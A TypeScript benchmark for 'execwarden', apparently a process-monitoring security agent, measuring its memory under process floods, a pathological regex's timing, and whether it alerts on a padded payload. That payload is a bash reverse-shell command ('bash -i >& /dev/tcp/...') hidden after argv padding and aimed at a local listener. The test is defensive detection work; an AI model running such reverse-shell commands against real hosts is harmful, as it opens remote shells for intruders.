/**
 * What a hostile local user can do to the agent, measured on a separate `execwarden run`:
 * - memory: its RSS idle (1 s after start, and 15 s after, once V8 has returned the start-up
 *   garbage; target 61 MiB), after 3,000 sleeping processes with about 120 KiB of argv each
 *   (the process table keeps a judged image compact; the documented budget is 256 MiB), and
 *   after 36,000 short-lived processes with 8,000 characters of argv each, more than the
 *   process table holds by count (its byte budget; the same 256 MiB);
 * - a pathological regex input: the time to evaluate `regex ".*(a+)+="` on a 10,000-character
 *   command line (the old backtracking engine took 0.78 s on 24 characters);
 * - a payload placed after about 1.8 MiB of argv padding: whether the agent still alerts on it.
 *
 * Runnable alone: npx tsc -p tsconfig.build.json && node dist/test/bench/hostile.js
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { compileQuery } from '../../src/eql/index.js';
import { DEFAULT_MAX_ENTRIES } from '../../src/process/process-table.js';
import { buildTools, runStorm } from './capture.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');
const RSS_BUDGET_MIB = 256;
/** The unit's MemoryMax, and the V8 heap limit Node 20 derives from it. */
const UNIT_MEMORY_MAX_MIB = 512;
const UNIT_HEAP_MIB = 259;

/** A line of /proc/<pid>/status in MiB; NaN once the agent is gone (it did not survive). */
function statusMiB(pid: number, field: 'VmRSS' | 'VmHWM'): number {
  try {
    const match = new RegExp(`^${field}:\\s+(\\d+) kB`, 'm').exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
    return match ? Number(match[1]) / 1024 : NaN;
  } catch {
    return NaN;
  }
}

const rssMiB = (pid: number) => statusMiB(pid, 'VmRSS');
const peakRssMiB = (pid: number) => statusMiB(pid, 'VmHWM');

function shell(script: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore' });
    child.once('error', reject);
    child.once('exit', () => resolve());
  });
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function startAgent(dir: string): Promise<{ agent: ChildProcess; alerts: () => string; log: () => string }> {
  const alertsFile = path.join(dir, 'alerts.ndjson');
  writeFileSync(path.join(dir, 'config.toml'), `[outputs.file]\npath = "${alertsFile}"\n`);
  // The heap V8 gets under the unit's MemoryMax=512M: Node sizes it from the cgroup's limit
  // (measured: 259 MiB). Without it V8 would let garbage grow towards a quarter of the host's
  // memory before collecting, and a run here would not show what kills the service there.
  const agent = spawn(process.execPath, [`--max-old-space-size=${UNIT_HEAP_MIB}`, path.join(ROOT, 'bin/execwarden.js'), 'run', '--config', path.join(dir, 'config.toml')], {
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let log = '';
  agent.stderr!.on('data', (chunk: Buffer) => (log += chunk.toString()));
  for (let i = 0; i < 200 && !log.includes('execwarden started'); i++) await sleep(100);
  if (!log.includes('execwarden started')) throw new Error(`the agent did not start: ${log}`);
  const alerts = (): string => {
    try {
      return readFileSync(alertsFile, 'utf8');
    } catch {
      return '';
    }
  };
  return { agent, alerts, log: () => log };
}

/** Idle RSS the agent should stay within (what it held before the Defend-faithful fields). */
const IDLE_RSS_TARGET_MIB = 61;

export async function runHostileBench(): Promise<Record<string, unknown>> {
  const dir = mkdtempSync(path.join(tmpdir(), 'execwarden-hostile-'));
  const { agent, alerts, log } = await startAgent(dir);
  const result: Record<string, unknown> = {};
  try {
    await sleep(1000);
    result.rssIdleMiB = rssMiB(agent.pid!);
    // V8 gives back the start-up garbage (rule compilation, the /proc seed) once the agent has
    // been quiet for a few seconds (its memory reducer): what a service holds while idle.
    await sleep(14_000);
    result.rssIdleSettledMiB = rssMiB(agent.pid!);
    // 3,000 shells sleeping with ~120 KiB of argv each; killed by name below.
    const sleepers = 3000;
    await shell(
      `pad=$(printf '%0120000d' 0); for i in $(seq ${sleepers}); do setsid sh -c 'sleep 40; :' hostile-sleeper "$pad" $i </dev/null >/dev/null 2>&1 & done`,
    );
    await sleep(5000);
    result.sleepers = sleepers;
    result.rssWithSleepersMiB = rssMiB(agent.pid!);
    result.rssBudgetMiB = RSS_BUDGET_MIB;
    await shell("pkill -f 'hostile-sleeper' || true");

    // More short-lived processes than the table holds by count, each with a long argument: what
    // the table keeps of them is bounded by its byte budget, not its entry count.
    const tools = buildTools();
    try {
      const longArgvExecs = DEFAULT_MAX_ENTRIES + 3_000;
      await runStorm(tools, longArgvExecs, 'hostile-long-'.padEnd(8_000, 'x'));
      await sleep(2000);
      result.longArgvExecs = longArgvExecs;
      result.rssAfterLongArgvMiB = rssMiB(agent.pid!);
      result.peakRssMiB = peakRssMiB(agent.pid!);
      result.survived = agent.exitCode === null && agent.signalCode === null;
    } finally {
      rmSync(tools.dir, { recursive: true, force: true });
    }

    // A payload after ~1.8 MiB of padding (one argument may not pass 128 KiB).
    const listener = createServer((socket) => socket.destroy());
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as AddressInfo).port;
    const before = alerts().length;
    await shell(
      `pad=$(printf '%0120000d' 0); bash -c 'eval "\${@: -1}"' _ ${Array.from({ length: 15 }, () => '"$pad"').join(' ')} 'bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1 #hostile-padding'; true`,
    );
    await sleep(1500);
    listener.close();
    const fresh = alerts().slice(before);
    result.paddedPayloadAlerted = fresh.includes(`/dev/tcp/127.0.0.1/${port}`);
  } finally {
    if (agent.exitCode === null && agent.signalCode === null) {
      agent.kill('SIGTERM');
      await new Promise((resolve) => agent.once('exit', resolve));
    }
    // What the floods cost, from the counters the agent logs as it stops.
    const stopped = log().split('\n').reverse().find((line) => line.includes('"stats"'));
    try {
      const stats = (JSON.parse(stopped ?? '{}') as { stats?: { capture: Record<string, number>; processTable: Record<string, number> } }).stats;
      result.eventsDropped = stats?.capture.eventsDropped;
      result.cmdlinesKeptShort = stats?.capture.cmdlinesKeptShort;
      result.imagesLeaned = stats?.processTable.leaned;
    } catch {
      // No counters: the figures print as undefined.
    }
    rmSync(dir, { recursive: true, force: true });
  }

  // The regex the old engine took 0.78 s for on 24 characters, on 10,000.
  const query = compileQuery('process where process.command_line regex ".*(a+)+="');
  if (query.kind !== 'event') throw new Error('expected an event query');
  // A value that almost matches (no '=') and one that does: both run through the whole value.
  const values = ['a'.repeat(10_000), `${'a'.repeat(10_000)}=`, `${'ab'.repeat(5_000)}=`];
  const runs: number[] = [];
  for (let i = 0; i < 5; i++) {
    const started = performance.now();
    for (const value of values) query.matches({ event: { category: ['process'] }, process: { command_line: value } });
    runs.push(performance.now() - started);
  }
  runs.sort((a, b) => a - b);
  result.pathologicalRegexMs = runs[2]! / values.length;

  printHostile(result);
  return result;
}

function printHostile(r: Record<string, unknown>): void {
  const f = (value: unknown, digits = 1) => (typeof value === 'number' ? value.toFixed(digits) : String(value));
  const rows: Array<[string, string, string]> = [
    ['agent RSS 1 s after start (MiB)', f(r.rssIdleMiB), ''],
    ['agent RSS idle, 15 s after start (MiB)', f(r.rssIdleSettledMiB), `target ${IDLE_RSS_TARGET_MIB} ${Number(r.rssIdleSettledMiB) <= IDLE_RSS_TARGET_MIB ? 'met' : 'MISSED'}`],
    [`agent RSS with ${r.sleepers} sleepers of 120 KiB argv (MiB)`, f(r.rssWithSleepersMiB), `budget ${r.rssBudgetMiB} ${Number(r.rssWithSleepersMiB) <= Number(r.rssBudgetMiB) ? 'met' : 'MISSED'}`],
    [`agent RSS after ${r.longArgvExecs} short-lived execs of 8,000-char argv (MiB)`, f(r.rssAfterLongArgvMiB), `budget ${r.rssBudgetMiB} ${Number(r.rssAfterLongArgvMiB) <= Number(r.rssBudgetMiB) ? 'met' : 'MISSED'}`],
    ['agent peak RSS over all of the above (MiB)', f(r.peakRssMiB), `under the unit's MemoryMax ${UNIT_MEMORY_MAX_MIB} ${Number(r.peakRssMiB) < UNIT_MEMORY_MAX_MIB ? 'met' : 'MISSED'}`],
    [`agent alive after both floods (V8 heap limited to ${UNIT_HEAP_MIB} MiB, as under the unit)`, String(r.survived), r.survived ? 'met' : 'MISSED'],
    ['what the floods cost: events dropped, argv kept short, table images cut down', `${f(r.eventsDropped, 0)}, ${f(r.cmdlinesKeptShort, 0)}, ${f(r.imagesLeaned, 0)}`, 'counted and alerted'],
    ['payload after 1.8 MiB of argv padding alerted', String(r.paddedPayloadAlerted), r.paddedPayloadAlerted ? 'met' : 'MISSED'],
    ['regex .*(a+)+= on 10,000 chars (ms per value, median)', f(r.pathologicalRegexMs, 2), 'linear (was 0.78 s on 24 chars)'],
  ];
  const widths = [0, 1, 2].map((i) => Math.max(...rows.map((row) => row[i]!.length)));
  console.log('\nhostile host:');
  for (const row of rows) console.log(row.map((cell, i) => cell.padEnd(widths[i]!)).join('  '));
}

if (process.argv[1] && import.meta.url === pathToFileURL(path.resolve(process.argv[1])).href) {
  runHostileBench().catch((error: unknown) => {
    console.error(error);
    process.exitCode = 1;
  });
}
